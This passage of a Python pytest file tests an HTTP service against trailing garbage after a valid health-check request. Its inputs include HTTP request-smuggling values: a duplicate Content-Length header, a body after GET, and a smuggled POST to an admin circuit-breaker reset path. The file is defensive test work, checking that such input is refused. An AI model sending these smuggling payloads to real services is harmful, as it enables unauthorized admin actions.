    "a-word": b"nonsense\r\n\r\n",
    "a-second-length": post(FINE, "Content-Length: 1"),
    "a-body-after-get": FINE,
    "bytes": bytes(range(256)),
    "a-smuggled-request-to-the-admin": post("", "Via: x", path="/circuit-breaker/reset-all"),
}


@pytest.mark.parametrize("garbage", [pytest.param(g, id=name) for name, g in GARBAGE.items()])
def test_garbage_behind_a_good_request_spoils_only_itself(service, garbage):
    first, *others, last = send(service, get("/health") + garbage, leave=True)

    assert first.status == 200
    assert {reply.status for reply in others} <= {400, 403}
    for reply in others:
        assert_envelope(reply)
    assert last.status == CLOSED
    assert_unharmed(service)


def test_there_are_enough_of_them():
    assert len(REFUSED) + len(ENDS) + len(ODD) + len(GARBAGE) >= 300
